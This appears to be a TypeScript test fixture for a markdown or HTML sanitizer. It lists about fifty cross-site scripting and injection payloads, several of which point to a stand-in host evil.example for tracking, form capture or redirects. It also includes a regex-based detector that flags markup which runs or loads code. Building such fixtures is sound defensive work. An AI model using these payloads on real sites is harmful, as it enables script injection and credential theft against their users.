/** Markdown and names that have run scripts somewhere. The word `pwned` marks what must not become code. */
export const MARKUP: readonly string[] = [
  '<script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<svg/onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '<iframe srcdoc="<script>pwned()</script>"></iframe>',
  '<a href="javascript:pwned()">x</a>',
  '[x](javascript:pwned())',
  '[x](JaVaScRiPt:pwned())',
  '[x](java\tscript:pwned())',
  '[x](&#106;avascript:pwned())',
  '[x](javascript&colon;pwned())',
  '[x](data:text/html,<script>pwned()</script>)',
  '[x](vbscript:pwned())',
  '[x](//evil.example/pwned)',
  '[x](https://user:pass@evil.example)',
  '![x](javascript:pwned())',
  '![x](https://evil.example/pwned.png)',
  '![x](data:image/svg+xml,<svg onload=pwned()>)',
  '<javascript:pwned()>',
  '[x]: javascript:pwned()\n\n[x]',
  '[x](https://example.org "onmouseover=pwned()")',
  '[x](https://example.org "\\"><script>pwned()</script>")',
  '```html\n<script>pwned()</script>\n```',
  '```"><script>pwned()</script>\nx\n```',
  '`<script>pwned()</script>`',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '<style>*{background:url(https://evil.example/pwned)}</style>',
  '<p style="background:url(javascript:pwned())">x</p>',
  '<form action=https://evil.example><input name=password></form>',
  '<base href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/pwned.css>',
  '<object data=javascript:pwned()></object>',
  '<details open ontoggle=pwned()>',
  '</textarea><script>pwned()</script>',
  '</title><script>pwned()</script>',
  '</script><script>pwned()</script>',
  '<!--<script>pwned()</script>-->',
  '<![CDATA[<script>pwned()</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '"><img src=x onerror=pwned()>',
  "' onmouseover='pwned()",
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '\u2028pwned()\u2029',
  '<scr\u0000ipt>pwned()</scr\u0000ipt>',
  '＜script＞pwned()＜/script＞',
  '| a |\n|---|\n| <script>pwned()</script> |',
  '> <script>pwned()</script>',
  '- [x] <script>pwned()</script>',
  'https://example.org/?a="onmouseover="pwned()',
  '<https://example.org/"onmouseover="pwned()>',
  '@<script>pwned()</script>',
];

const TAG = /<([a-z][^\s/>]*)((?:[\s/]+[^\s=>/]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>"']*))?)*)[\s/]*>/gi;
const ATTRIBUTE = /([^\s=>/]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>"']*))?/g;
const LOADING = /^(?:iframe|object|embed|base|math|foreignobject|frame|applet)$/i;
const LEADING = /^(?:href|src|action|formaction|xlink:href|srcset|poster|data)$/i;

/** Code in a piece of HTML, or null: elements and attributes that run or load something, and addresses that do. */
export function codeIn(html: string): string | null {
  const live = html.replace(/<script type="application\/(?:ld\+)?json"[^>]*>[^]*?<\/script>/g, '');
  for (const [tag, name = '', rest = ''] of live.matchAll(TAG)) {
    const attributes = [...rest.matchAll(ATTRIBUTE)].map(([, key = '', value = '']) => ({
      key,
      value: value.replace(/^["']|["']$/g, '').trim(),
    }));
    const has = (key: RegExp, value: RegExp): boolean =>
      attributes.some((attribute) => key.test(attribute.key) && value.test(attribute.value));
    const runs =
      LOADING.test(name) ||
      (/^script$/i.test(name) && !has(/^src$/i, /^\/(?!\/)/)) ||
      (/^meta$/i.test(name) && has(/^http-equiv$/i, /refresh/i)) ||
      has(/^on[a-z]+$/i, /(?:)/) ||
      has(LEADING, /^\s*(?:javascript|vbscript|data:text)/i) ||
      (/^(?:img|link|form|script)$/i.test(name) && has(LEADING, /evil\.example/i));
    if (runs) return tag.slice(0, 160);
  }
  return null;
}
